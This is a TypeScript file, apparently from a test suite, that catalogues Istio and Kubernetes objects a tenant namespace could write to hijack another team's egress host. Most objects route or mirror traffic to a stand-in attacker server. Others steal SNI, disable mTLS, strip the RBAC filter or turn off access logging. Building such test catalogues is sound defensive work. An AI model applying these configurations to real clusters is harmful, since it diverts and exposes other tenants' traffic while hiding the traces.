import { EXITS } from './app';

/** What an object of the catalogue is about. */
export interface Aim {
  /** The attacker's namespace. */
  readonly team: string;
  /** The host that it wants. */
  readonly host: string;
  /** An address of that host outside. */
  readonly address: string;
  /** A server outside that belongs to the attacker. */
  readonly evil: { readonly host: string; readonly address: string };
}

const NETWORKING = 'networking.istio.io/v1';
const { first, waypoint } = EXITS;
const SERVICE = `${first.name}.${first.namespace}.svc.cluster.local`;
const ELSEWHERE = [first.namespace, EXITS.second.namespace, waypoint.namespace, 'pay'];

const object = ({ team }: Aim, apiVersion: string, kind: string, name: string, spec?: object, rest: object = {}) => ({
  apiVersion,
  kind,
  metadata: { name, namespace: team },
  ...(spec && { spec }),
  ...rest,
});

const web = [
  { number: 80, name: 'http', protocol: 'HTTP' },
  { number: 8080, name: 'http-8080', protocol: 'HTTP' },
  { number: 443, name: 'tls', protocol: 'TLS' },
];
const raw = [
  { number: 80, name: 'tcp-80', protocol: 'TCP' },
  { number: 443, name: 'tcp-443', protocol: 'TCP' },
  { number: 5432, name: 'tcp-5432', protocol: 'TCP' },
];

const serviceEntry = (aim: Aim, name: string, spec: object) =>
  object(aim, NETWORKING, 'ServiceEntry', name, {
    hosts: [aim.host],
    ports: web,
    resolution: 'STATIC',
    endpoints: [{ address: aim.evil.address }],
    ...spec,
  });

const toEvil = ({ evil }: Aim, port = 80) => [{ destination: { host: evil.host, port: { number: port } } }];

/**
 * Every object that a team may write in its own namespace and that istiod, Envoy or Kubernetes reads, aimed at a host that is not the
 * team's, by name.
 */
export const CATALOGUE: Record<string, (aim: Aim) => object[]> = {
  'ServiceEntry of the host for everybody': (aim) => [serviceEntry(aim, 'se-all', { exportTo: ['*'] })],
  "ServiceEntry of the host for the exits' namespaces by name": (aim) => [
    serviceEntry(aim, 'se-named', { exportTo: ELSEWHERE }),
  ],
  'ServiceEntry of the host for the own namespace': (aim) => [serviceEntry(aim, 'se-own', { exportTo: ['.'] })],
  "ServiceEntry with the host's address, as TCP, for everybody": (aim) => [
    serviceEntry(aim, 'se-address', {
      hosts: [`of-${aim.team}.example`],
      addresses: [aim.address],
      ports: raw,
      exportTo: ['*'],
    }),
  ],
  "ServiceEntry with the host's address, as TCP, for others by name": (aim) => [
    serviceEntry(aim, 'se-address-named', {
      hosts: [`of-${aim.team}.example`],
      addresses: [aim.address],
      ports: raw,
      exportTo: ELSEWHERE,
    }),
  ],
  'ServiceEntry of the host with resolution NONE': (aim) => [
    serviceEntry(aim, 'se-none', { resolution: 'NONE', endpoints: undefined, exportTo: ['*'] }),
  ],
  'ServiceEntry that selects pods of the team': (aim) => [
    serviceEntry(aim, 'se-selector', { endpoints: undefined, workloadSelector: { labels: { app: 'mallory' } } }),
  ],
  'ServiceEntry of a wildcard above the host': (aim) => [
    serviceEntry(aim, 'se-wild', { hosts: [aim.host.replace(/^[^.]+/, '*')], exportTo: ['*'] }),
  ],
  "ServiceEntry that claims the exit's own Service": (aim) => [
    serviceEntry(aim, 'se-exit', { hosts: [SERVICE], exportTo: ['*'] }),
  ],
  'ServiceEntry that asks for the waypoint': (aim) => [
    {
      ...serviceEntry(aim, 'se-waypoint', { exportTo: ['*'] }),
      metadata: {
        name: 'se-waypoint',
        namespace: aim.team,
        labels: { 'istio.io/use-waypoint': waypoint.name, 'istio.io/use-waypoint-namespace': waypoint.namespace },
      },
    },
  ],
  'WorkloadEntry with an address outside': (aim) => [
    object(aim, NETWORKING, 'WorkloadEntry', 'outside', { address: aim.evil.address, labels: { app: 'outside' } }),
    object(aim, 'v1', 'Service', 'outside', { selector: { app: 'outside' }, ports: [{ name: 'http', port: 80 }] }),
  ],
  'Service with slices of an address outside': (aim) => [
    object(aim, 'v1', 'Service', 'sliced', { ports: [{ name: 'http', port: 80 }] }),
    object(aim, 'discovery.k8s.io/v1', 'EndpointSlice', 'sliced-1', undefined, {
      metadata: { name: 'sliced-1', namespace: aim.team, labels: { 'kubernetes.io/service-name': 'sliced' } },
      addressType: 'IPv4',
      endpoints: [{ addresses: [aim.evil.address] }],
      ports: [{ name: 'http', port: 80 }],
    }),
  ],
  "headless Service with the host's address": (aim) => [
    object(aim, 'v1', 'Service', 'headless', { clusterIP: 'None', ports: [{ name: 'tcp', port: 80 }] }),
    object(aim, 'discovery.k8s.io/v1', 'EndpointSlice', 'headless-1', undefined, {
      metadata: { name: 'headless-1', namespace: aim.team, labels: { 'kubernetes.io/service-name': 'headless' } },
      addressType: 'IPv4',
      endpoints: [{ addresses: [aim.address] }],
      ports: [{ name: 'tcp', port: 80 }],
    }),
  ],
  "headless Service that selects the host's address": (aim) => [
    object(aim, NETWORKING, 'WorkloadEntry', 'host', { address: aim.address, labels: { app: 'host' } }),
    object(aim, 'v1', 'Service', 'selecting', {
      clusterIP: 'None',
      selector: { app: 'host' },
      ports: [{ name: 'tcp', port: 80 }],
    }),
  ],
  'ServiceEntry for all of a port, for everybody': (aim) => [
    serviceEntry(aim, 'se-port', { hosts: [`all-of-${aim.team}.example`], ports: raw, exportTo: ['*'] }),
  ],
  'VirtualService of the host in capitals': (aim) => [
    object(aim, NETWORKING, 'VirtualService', 'vs-capitals', {
      hosts: [aim.host.toUpperCase()],
      exportTo: ELSEWHERE,
      http: [{ route: toEvil(aim) }],
    }),
  ],
  "DestinationRule of the exit's Services for the own namespace": (aim) => [
    object(aim, NETWORKING, 'DestinationRule', 'dr-own', {
      host: '*.svc.cluster.local',
      exportTo: ['.'],
      trafficPolicy: { tls: { mode: 'DISABLE' } },
    }),
  ],
  "VirtualService on the probe's Gateway": (aim) => [
    object(aim, NETWORKING, 'VirtualService', 'vs-probe', {
      hosts: ['127.0.0.1'],
      gateways: [`${first.namespace}/${first.name}-upstream-probe`],
      http: [{ directResponse: { status: 200 } }],
    }),
  ],
  'BackendTLSPolicy and routes of gRPC for the host': (aim) => [
    object(aim, 'gateway.networking.k8s.io/v1', 'GRPCRoute', 'route-grpc', {
      parentRefs: [{ name: waypoint.name, namespace: waypoint.namespace }],
      hostnames: [aim.host],
      rules: [{ backendRefs: [{ group: 'networking.istio.io', kind: 'Hostname', name: aim.evil.host, port: 80 }] }],
    }),
  ],
  'ExternalName of the host': (aim) => [
    object(aim, 'v1', 'Service', 'external', {
      type: 'ExternalName',
      externalName: aim.host,
      ports: [{ name: 'http', port: 80 }],
    }),
  ],
  'VirtualService of the host for everybody': (aim) => [
    object(aim, NETWORKING, 'VirtualService', 'vs-all', {
      hosts: [aim.host],
      exportTo: ['*'],
      http: [{ route: toEvil(aim) }],
    }),
  ],
  'VirtualService of the host for others by name': (aim) => [
    object(aim, NETWORKING, 'VirtualService', 'vs-named', {
      hosts: [aim.host],
      exportTo: ELSEWHERE,
      http: [{ route: toEvil(aim) }],
    }),
  ],
  "VirtualService on the exit's Gateway": (aim) => [
    object(aim, NETWORKING, 'VirtualService', 'vs-bound', {
      hosts: [aim.host],
      gateways: [`${first.namespace}/${first.name}`, `${waypoint.namespace}/${waypoint.name}`],
      http: [{ route: toEvil(aim) }],
    }),
  ],
  "VirtualService on the exit's Gateway for everything": (aim) => [
    object(aim, NETWORKING, 'VirtualService', 'vs-any', {
      hosts: ['*'],
      gateways: [`${first.namespace}/${first.name}`],
      http: [{ route: [{ destination: { host: aim.host, port: { number: 80 } } }] }],
    }),
  ],
  'VirtualService of a wildcard for everybody': (aim) => [
    object(aim, NETWORKING, 'VirtualService', 'vs-wild', {
      hosts: [aim.host.replace(/^[^.]+/, '*')],
      exportTo: ['*'],
      http: [{ route: toEvil(aim) }],
    }),
  ],
  'VirtualService that mirrors calls to the exit': (aim) => [
    object(aim, NETWORKING, 'VirtualService', 'vs-mirror', {
      hosts: [aim.host],
      http: [
        {
          route: [{ destination: { host: SERVICE, port: { number: 80 } } }],
          mirrors: [{ destination: { host: aim.evil.host, port: { number: 80 } } }],
        },
      ],
    }),
  ],
  'VirtualService with a delegate elsewhere': (aim) => [
    object(aim, NETWORKING, 'VirtualService', 'vs-root', {
      hosts: [aim.host],
      http: [{ delegate: { name: `${first.name}.${aim.host}`, namespace: first.namespace } }],
    }),
  ],
  'DestinationRule of the host without TLS for everybody': (aim) => [
    object(aim, NETWORKING, 'DestinationRule', 'dr-all', {
      host: aim.host,
      exportTo: ['*'],
      trafficPolicy: { tls: { mode: 'DISABLE' } },
    }),
  ],
  'DestinationRule of the host without TLS for others by name': (aim) => [
    object(aim, NETWORKING, 'DestinationRule', 'dr-named', {
      host: aim.host,
      exportTo: ELSEWHERE,
      trafficPolicy: { tls: { mode: 'DISABLE' } },
    }),
  ],
  "DestinationRule of the exit's Service for everybody": (aim) => [
    object(aim, NETWORKING, 'DestinationRule', 'dr-exit', {
      host: SERVICE,
      exportTo: ['*'],
      trafficPolicy: { tls: { mode: 'DISABLE' } },
    }),
  ],
  "DestinationRule that asks the exit for another's server name": (aim) => [
    object(aim, NETWORKING, 'DestinationRule', 'dr-sni', {
      host: `${first.name}-tls.${first.namespace}.svc.cluster.local`,
      exportTo: ['.'],
      trafficPolicy: { tls: { mode: 'ISTIO_MUTUAL', sni: `sa.443.${aim.host}` } },
      subsets: [{ name: 'stolen', trafficPolicy: { tls: { mode: 'ISTIO_MUTUAL', sni: `ns.pay.443.${aim.host}` } } }],
    }),
    object(aim, NETWORKING, 'VirtualService', 'vs-sni', {
      hosts: [aim.host],
      tls: [
        {
          match: [{ port: 443, sniHosts: [aim.host] }],
          route: [
            {
              destination: {
                host: `${first.name}-tls.${first.namespace}.svc.cluster.local`,
                port: { number: 443 },
                subset: 'stolen',
              },
            },
          ],
        },
      ],
    }),
    serviceEntry(aim, 'se-sni', { exportTo: ['.'], endpoints: undefined }),
  ],
  "Gateway on the exit's pods": (aim) => [
    object(aim, NETWORKING, 'Gateway', 'gw', {
      selector: { istio: first.name },
      servers: [{ port: { number: 80, name: 'http', protocol: 'HTTP' }, hosts: ['*'] }],
    }),
    object(aim, NETWORKING, 'VirtualService', 'vs-gw', {
      hosts: [aim.host],
      gateways: ['gw'],
      http: [{ route: [{ destination: { host: aim.host, port: { number: 80 } } }] }],
    }),
  ],
  'Sidecar that allows any': (aim) => [
    object(aim, NETWORKING, 'Sidecar', 'default', {
      outboundTrafficPolicy: { mode: 'ALLOW_ANY' },
      egress: [{ hosts: ['*/*'] }],
    }),
  ],
  'AuthorizationPolicy for the exit’s labels': (aim) => [
    object(aim, 'security.istio.io/v1', 'AuthorizationPolicy', 'allow', {
      selector: { matchLabels: { istio: first.name } },
      rules: [{}],
    }),
  ],
  'AuthorizationPolicy that targets the host’s ServiceEntry': (aim) => [
    object(aim, 'security.istio.io/v1', 'AuthorizationPolicy', 'allow-target', {
      targetRefs: [{ group: 'networking.istio.io', kind: 'ServiceEntry', name: `${waypoint.name}.${aim.host}` }],
      rules: [{}],
    }),
  ],
  'PeerAuthentication without mutual TLS': (aim) => [
    object(aim, 'security.istio.io/v1', 'PeerAuthentication', 'default', { mtls: { mode: 'DISABLE' } }),
  ],
  'Telemetry that logs nothing': (aim) => [
    object(aim, 'telemetry.istio.io/v1', 'Telemetry', 'silent', { accessLogging: [{ disabled: true }] }),
  ],
  'HTTPRoute of the host, for the mesh': (aim) => [
    object(aim, NETWORKING, 'ServiceEntry', 'se-route', {
      hosts: [aim.host],
      ports: web,
      resolution: 'STATIC',
      exportTo: ['*'],
    }),
    object(aim, 'gateway.networking.k8s.io/v1', 'HTTPRoute', 'route', {
      parentRefs: [{ group: 'networking.istio.io', kind: 'ServiceEntry', name: 'se-route' }],
      rules: [{ backendRefs: [{ group: 'networking.istio.io', kind: 'Hostname', name: aim.evil.host, port: 80 }] }],
    }),
  ],
  "HTTPRoute on the waypoint's ServiceEntry": (aim) => [
    object(aim, 'gateway.networking.k8s.io/v1', 'HTTPRoute', 'route-waypoint', {
      parentRefs: [
        {
          group: 'networking.istio.io',
          kind: 'ServiceEntry',
          name: `${waypoint.name}.${aim.host}`,
          namespace: waypoint.namespace,
        },
      ],
      rules: [{ backendRefs: [{ group: 'networking.istio.io', kind: 'Hostname', name: aim.evil.host, port: 80 }] }],
    }),
  ],
  "HTTPRoute on the exit's Gateway": (aim) => [
    object(aim, 'gateway.networking.k8s.io/v1', 'HTTPRoute', 'route-gateway', {
      parentRefs: [{ name: waypoint.name, namespace: waypoint.namespace }],
      hostnames: [aim.host],
      rules: [{ backendRefs: [{ group: 'networking.istio.io', kind: 'Hostname', name: aim.evil.host, port: 80 }] }],
    }),
  ],
  'EnvoyFilter that takes the policies away': (aim) => [
    object(aim, 'networking.istio.io/v1alpha3', 'EnvoyFilter', 'no-rbac', {
      workloadSelector: { labels: { istio: first.name } },
      configPatches: [
        {
          applyTo: 'HTTP_FILTER',
          match: {
            context: 'GATEWAY',
            listener: {
              filterChain: {
                filter: {
                  name: 'envoy.filters.network.http_connection_manager',
                  subFilter: { name: 'envoy.filters.http.rbac' },
                },
              },
            },
          },
          patch: { operation: 'REMOVE' },
        },
      ],
    }),
  ],
  'WasmPlugin on the exit': (aim) => [
    object(aim, 'extensions.istio.io/v1alpha1', 'WasmPlugin', 'wasm', {
      selector: { matchLabels: { istio: first.name } },
      url: 'file:///nonexistent.wasm',
      phase: 'AUTHZ',
    }),
  ],
  'ServiceEntry of the decider of an exit': (aim) => [
    serviceEntry(aim, 'se-opa', { hosts: [`opa.${first.name}.${first.namespace}.internal`], exportTo: ['.'] }),
  ],
};

/**
 * Objects that take calls of namespaces without a guard, as docs/enforcement.md says: every call to the host's address, or those to
 * hosts that the namespace knows by a wildcard alone.
 */
export const STOPPED_BY_GUARDS: Record<string, 'address' | 'wildcard'> = {
  "headless Service with the host's address": 'address',
  'VirtualService of the host for everybody': 'wildcard',
  'VirtualService of the host for others by name': 'wildcard',
  'VirtualService of a wildcard for everybody': 'wildcard',
};
